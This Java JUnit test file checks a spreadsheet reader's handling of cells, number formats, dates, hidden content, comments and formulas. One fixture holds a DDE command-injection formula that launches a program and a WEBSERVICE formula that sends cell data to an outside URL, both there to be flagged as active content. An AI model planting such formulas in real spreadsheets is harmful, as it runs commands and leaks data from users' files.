package dev.sdc.engine.read.xlsx;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sdc.engine.intake.Limits;
import dev.sdc.engine.read.Grid;
import dev.sdc.engine.read.Grid.Layout.Visibility;
import dev.sdc.engine.read.Reading;
import dev.sdc.engine.read.Reading.Note;
import dev.sdc.engine.read.Reading.Note.Kind;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.Arrays;
import java.util.List;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.usermodel.SheetVisibility;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFRichTextString;
import org.apache.poi.xssf.usermodel.XSSFRow;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

final class WorkbookReaderTest {

    @Test
    void sheetsInOrderWithTheirCells() {
        byte[] bytes = Workbooks.poi(workbook -> {
            XSSFSheet first = workbook.createSheet("Table 1");
            row(first, 0, "Stage", "Patients");
            row(first, 2, "Stage 1", 120);
            workbook.createSheet("Empty");
            row(workbook.createSheet("Second"), 0, true, 0.5);
        });
        byte[] before = bytes.clone();
        Reading.Grids read = read(bytes);
        assertThat(bytes).isEqualTo(before);
        assertThat(read.grids().stream().map(Grid::sheet)).containsExactly("Table 1", "Empty", "Second");
        Grid table = read.grids().get(0);
        assertThat(table.rows()).isEqualTo(3);
        assertThat(table.text(0, 1)).isEqualTo("Patients");
        assertThat(table.isBlank(1, 0)).isTrue();
        assertThat(table.number(2, 1)).isEqualTo(new BigDecimal("120"));
        assertThat(table.address(2, 1)).isEqualTo("Table 1!B3");
        assertThat(read.grids().get(1).rows()).isZero();
        assertThat(read.grids().get(2).text(0, 0)).isEqualTo("TRUE");
        assertThat(read.notes()).isEmpty();
    }

    @Test
    void aStyleThatCannotBeIsTheFirstOne() {
        byte[] bytes = Workbooks.zip(Workbooks.parts("<sheetData><row r=\"1\">"
                + "<c r=\"A1\" s=\"-1\" t=\"inlineStr\"><is><t>Stage</t></is></c><c r=\"B1\" s=\"99999999\"><v>12</v></c>"
                + "<c r=\"C1\" s=\"-2147483648\"><v>13</v></c></row></sheetData>"));
        assertThat(texts(read(bytes).grids().get(0), 0)).containsExactly("Stage", "12", "13");
    }

    @Test
    void numbersAreExactDecimalsWithoutBinaryNoise() {
        byte[] bytes = Workbooks.zip(Workbooks.parts("<sheetData><row r=\"1\">"
                + "<c r=\"A1\"><v>0.8179999999999999</v></c><c r=\"B1\"><v>1.7E-2</v></c><c r=\"C1\"><v>45.0</v></c>"
                + "<c r=\"D1\"><v>-3.25</v></c><c r=\"E1\"><v>9434765919</v></c><c r=\"F1\"><v>1.2E3</v></c>"
                + "<c r=\"G1\"><v>1E+999999999</v></c></row></sheetData>"));
        Grid grid = read(bytes).grids().get(0);
        assertThat(texts(grid, 0))
                .containsExactly("0.818", "0.017", "45", "-3.25", "9434765919", "1200", "1E+999999999");
        assertThat(grid.kind(0, 6)).isEqualTo(Grid.Kind.TEXT);
    }

    @Test
    void textsOfEveryKind() {
        byte[] bytes = Workbooks.zip(Workbooks.parts("<sheetData><row>"
                + "<c t=\"inlineStr\"><is><r><t>Ju</t></r><r><t xml:space=\"preserve\">ne </t></r><rPh><t>x</t></rPh></is></c>"
                + "<c t=\"str\"><f>A1</f><v>a_x000A_b</v></c><c t=\"e\"><v>#DIV/0!</v></c><c t=\"inlineStr\"/>"
                + "<c t=\"b\"><v>0</v></c><c t=\"d\"><v>2018-03-01</v></c></row></sheetData>"));
        assertThat(texts(read(bytes).grids().get(0), 0))
                .containsExactly("June ", "a\nb", "#DIV/0!", "", "FALSE", "2018-03-01");
    }

    @Test
    void richSharedTextsAreJoined() {
        byte[] bytes = Workbooks.poi(workbook -> {
            XSSFRichTextString text = new XSSFRichTextString("Patients");
            text.append("*", workbook.createFont());
            workbook.createSheet("S").createRow(0).createCell(0).setCellValue(text);
        });
        assertThat(read(bytes).grids().get(0).text(0, 0)).isEqualTo("Patients*");
    }

    @Test
    void datesAreTextsAndTellWhatTheirDisplayLeavesOut() {
        byte[] bytes = Workbooks.poi(workbook -> {
            XSSFRow row = workbook.createSheet("S").createRow(0);
            cell(row, 0, format(workbook, "dd/mm/yyyy")).setCellValue(LocalDate.of(2018, 3, 14));
            cell(row, 1, format(workbook, "mmm-yy")).setCellValue(LocalDate.of(2018, 3, 1));
            cell(row, 2, format(workbook, "mmm-yy")).setCellValue(LocalDate.of(2018, 3, 14));
            cell(row, 3, format(workbook, "yyyy-mm-dd")).setCellValue(LocalDateTime.of(2018, 3, 14, 9, 30));
            cell(row, 4, format(workbook, "yyyy")).setCellValue(LocalDate.of(2018, 1, 1));
        });
        Grid grid = read(bytes).grids().get(0);
        assertThat(texts(grid, 0)).containsExactly("14/03/2018", "Mar-18", "2018-03-14", "2018-03-14 09:30", "2018");
        assertThat(grid.kind(0, 4)).as("a year is no count").isEqualTo(Grid.Kind.TEXT);
        assertThat(grid.layout().shown())
                .containsExactly(new Grid.Shown(0, 2, "Mar-18"), new Grid.Shown(0, 3, "2018-03-14"));
    }

    @Test
    void displayedTextIsGivenWhereItSaysLess() {
        byte[] bytes = Workbooks.poi(workbook -> {
            XSSFRow row = workbook.createSheet("S").createRow(0);
            cell(row, 0, format(workbook, "0.0")).setCellValue(12.34);
            cell(row, 1, format(workbook, "0.0")).setCellValue(12.3);
            cell(row, 2, format(workbook, "#,##0")).setCellValue(1234);
            cell(row, 3, format(workbook, "0.0%")).setCellValue(0.342);
            cell(row, 4, format(workbook, ";;;")).setCellValue(7);
            cell(row, 5, format(workbook, "[<10]\"<10\";0")).setCellValue(3);
            cell(row, 6, format(workbook, "[<10]\"<10\";0")).setCellValue(12);
            cell(row, 7, format(workbook, "0\" patients\"")).setCellValue(12);
            cell(row, 8, format(workbook, "0.00")).setCellValue(0.1 + 0.2);
            cell(row, 9, format(workbook, "General")).setCellValue(1.0 / 3);
            cell(row, 10, format(workbook, "_-* #,##0.00_-")).setCellValue(1234.5);
        });
        Grid grid = read(bytes).grids().get(0);
        assertThat(grid.number(0, 0)).isEqualTo(new BigDecimal("12.34"));
        assertThat(grid.number(0, 3)).isEqualTo(new BigDecimal("0.342"));
        assertThat(grid.number(0, 4)).isEqualTo(new BigDecimal("7"));
        assertThat(grid.layout().shown())
                .containsExactly(
                        new Grid.Shown(0, 0, "12.3"),
                        new Grid.Shown(0, 3, "34.2%"),
                        new Grid.Shown(0, 4, ""),
                        new Grid.Shown(0, 5, "<10"));
    }

    @Test
    void hiddenSheetsRowsAndColumns() {
        byte[] bytes = Workbooks.poi(workbook -> {
            XSSFSheet table = workbook.createSheet("T");
            row(table, 0, "a", 1, 2, 3);
            row(table, 1, "b", 4, 5, 6).setZeroHeight(true);
            row(table, 2, "c", 7, 8, 9).setHeightInPoints(0);
            row(table, 3).setZeroHeight(true);
            table.setColumnHidden(2, true);
            table.setColumnHidden(9, true);
            row(workbook.createSheet("raw"), 0, "x", 1);
            workbook.setSheetVisibility(1, SheetVisibility.VERY_HIDDEN);
            workbook.createSheet("blank");
            workbook.setSheetHidden(2, true);
        });
        Reading.Grids read = read(bytes);
        Grid.Layout layout = read.grids().get(0).layout();
        assertThat(layout.hiddenRows()).containsExactly(1, 2);
        assertThat(layout.hiddenColumns()).containsExactly(2);
        assertThat(read.grids().get(1).layout().visibility()).isEqualTo(Visibility.VERY_HIDDEN);
        assertThat(where(read, Kind.HIDDEN_DATA)).containsExactly("T!A2:D3", "T!C1:C3", "raw!A1:B1");
        assertThat(where(read, Kind.HIDDEN)).containsExactly("blank");
        assertThat(read.notes().get(0).text()).contains("8 cells");
    }

    @Test
    void rowsAndColumnsHiddenByDefault() {
        byte[] bytes = Workbooks.zip(Workbooks.parts("<sheetFormatPr zeroHeight=\"1\" defaultColWidth=\"0\"/>"
                + "<cols><col min=\"1\" max=\"1\" width=\"9\"/></cols>"
                + "<sheetData><row r=\"1\" ht=\"15\"><c r=\"A1\"><v>1</v></c></row>"
                + "<row r=\"2\"><c r=\"A2\"><v>1</v></c><c r=\"B2\"><v>2</v></c></row></sheetData>"));
        Grid.Layout layout = read(bytes).grids().get(0).layout();
        assertThat(layout.hiddenRows()).containsExactly(1);
        assertThat(layout.hiddenColumns()).containsExactly(1);
    }

    @Test
    void mergedAreasHoldTheirValueAtTheTopLeft() {
        byte[] clean = Workbooks.poi(workbook -> {
            XSSFSheet sheet = workbook.createSheet("S");
            row(sheet, 0, "Title", "", "");
            row(sheet, 1, "a", 1, 2);
            sheet.addMergedRegion(new CellRangeAddress(0, 0, 0, 2));
        });
        Reading.Grids read = read(clean);
        assertThat(read.grids().get(0).layout().merged()).containsExactly(new Grid.Area(0, 0, 0, 2));
        assertThat(read.notes()).isEmpty();

        byte[] covered = Workbooks.poi(workbook -> {
            XSSFSheet sheet = workbook.createSheet("S");
            row(sheet, 0, "Title", 3, 4);
            sheet.addMergedRegion(new CellRangeAddress(0, 0, 0, 2));
        });
        assertThat(where(read(covered), Kind.HIDDEN_DATA)).containsExactly("S!A1:C1");
    }

    @Test
    void commentsAreHiddenData() {
        byte[] bytes = Workbooks.poi(workbook -> {
            XSSFSheet sheet = workbook.createSheet("S");
            row(sheet, 0, "a", 12);
            comment(workbook, sheet, 0, 1, "was 3 before");
            comment(workbook, sheet, 0, 0, "");
        });
        assertThat(where(read(bytes), Kind.HIDDEN_DATA)).containsExactly("S!B1");
    }

    @Test
    void commentsWithoutAFigureAreForAPersonToRead() {
        byte[] bytes = Workbooks.poi(workbook -> {
            XSSFSheet sheet = workbook.createSheet("S");
            row(sheet, 0, "a", 12);
            comment(workbook, sheet, 0, 1, "agreed with the clinic");
        });
        assertThat(where(read(bytes), Kind.HIDDEN)).containsExactly("S!B1");
        assertThat(where(read(bytes), Kind.HIDDEN_DATA)).isEmpty();
    }

    @Test
    void definedNamesWithValues() {
        byte[] bytes = Workbooks.poi(workbook -> {
            row(workbook.createSheet("S"), 0, "a", 12);
            name(workbook, "Area", "S!$A$1:$B$1");
            name(workbook, "Hidden_count", "3");
            name(workbook, "List", "{1,2,3}");
            workbook.setPrintArea(0, "$A$1:$B$1");
        });
        assertThat(read(bytes).notes())
                .extracting(Note::kind, Note::text)
                .satisfiesExactly(
                        note -> assertThat(note.toList().toString()).contains("HIDDEN_DATA", "Hidden_count"),
                        note -> assertThat(note.toList().toString()).contains("HIDDEN_DATA", "List"));
    }

    @Test
    void formulasKeepTheirStoredResult() {
        byte[] bytes = Workbooks.zip(Workbooks.parts("<sheetData><row r=\"1\">"
                + "<c r=\"A1\"><f>SUM(B1:C1)</f><v>12</v></c>"
                + "<c r=\"B1\"><f>SUM(C1:D1)</f></c>"
                + "<c r=\"C1\" t=\"str\"><f>IF(3&lt;10,\"&lt;10\",3)</f><v>&lt;10</v></c>"
                + "<c r=\"D1\" t=\"str\"><f>IF(Z1&lt;10,\"&lt;10\",Z1)</f><v>&lt;10</v></c>"
                + "<c r=\"E1\"><f>[1]Sheet1!A1</f><v>5</v></c>"
                + "<c r=\"F1\" t=\"str\"><f>WEBSERVICE(\"http://example.org/?q=\"&amp;A1)</f><v>ok</v></c>"
                + "<c r=\"G1\"><f>'[2]My sheet'!A1</f><v>5</v></c>"
                + "<c r=\"H1\"><f>'A|B'!A1+cmd|'/c calc'!A0</f><v>5</v></c>"
                + "<c r=\"I1\"><f>Table1[Patients]</f><v>5</v></c>"
                + "</row></sheetData>"));
        Reading.Grids read = read(bytes);
        assertThat(read.grids().get(0).number(0, 0)).isEqualTo(new BigDecimal("12"));
        assertThat(where(read, Kind.NOT_UNDERSTOOD)).containsExactly("Sheet1!B1");
        assertThat(where(read, Kind.HIDDEN_DATA)).containsExactly("Sheet1!C1");
        assertThat(where(read, Kind.ACTIVE)).containsExactly("Sheet1!E1", "Sheet1!F1", "Sheet1!G1", "Sheet1!H1");
    }

    @Test
    void anotherLookMakesNoOtherCells() {
        byte[] bytes = Workbooks.poi(workbook -> {
            XSSFSheet sheet = workbook.createSheet("S");
            row(sheet, 0, "a", 12);
            sheet.createDrawingPatriarch();
            sheet.getHeader().setCenter("&A");
            sheet.setPrintGridlines(true);
            workbook.getProperties().getCoreProperties().setCreator("someone");
        });
        assertThat(read(bytes).notes()).isEmpty();
    }

    static Reading.Grids read(byte[] bytes) {
        Reading reading = WorkbookReader.read(bytes, Limits.DEFAULT);
        assertThat(reading).isInstanceOf(Reading.Grids.class);
        return (Reading.Grids) reading;
    }

    static List<String> where(Reading.Grids read, Kind kind) {
        return read.notes().stream()
                .filter(note -> note.kind() == kind)
                .map(Note::where)
                .toList();
    }

    private static List<String> texts(Grid grid, int row) {
        String[] texts = new String[grid.columns()];
        Arrays.setAll(texts, column -> grid.text(row, column));
        return List.of(texts);
    }

    static XSSFRow row(XSSFSheet sheet, int number, Object... values) {
        XSSFRow row = sheet.createRow(number);
        for (int c = 0; c < values.length; c++) {
            XSSFCell cell = row.createCell(c);
            if (values[c] instanceof Number value) {
                cell.setCellValue(value.doubleValue());
            } else if (values[c] instanceof Boolean value) {
                cell.setCellValue(value);
            } else {
                cell.setCellValue((String) values[c]);
            }
        }
        return row;
    }

    private static CellStyle format(XSSFWorkbook workbook, String code) {
        CellStyle style = workbook.createCellStyle();
        style.setDataFormat(workbook.createDataFormat().getFormat(code));
        return style;
    }

    private static XSSFCell cell(XSSFRow row, int column, CellStyle style) {
        XSSFCell cell = row.createCell(column);
        cell.setCellStyle(style);
        return cell;
    }

    private static void comment(XSSFWorkbook workbook, XSSFSheet sheet, int row, int column, String text) {
        var anchor = workbook.getCreationHelper().createClientAnchor();
        anchor.setCol1(column);
        anchor.setRow1(row);
        var comment = sheet.createDrawingPatriarch().createCellComment(anchor);
        comment.setString(new XSSFRichTextString(text));
        sheet.getRow(row).getCell(column).setCellComment(comment);
    }

    private static void name(XSSFWorkbook workbook, String name, String formula) {
        var defined = workbook.createName();
        defined.setNameName(name);
        defined.setRefersToFormula(formula);
    }
}
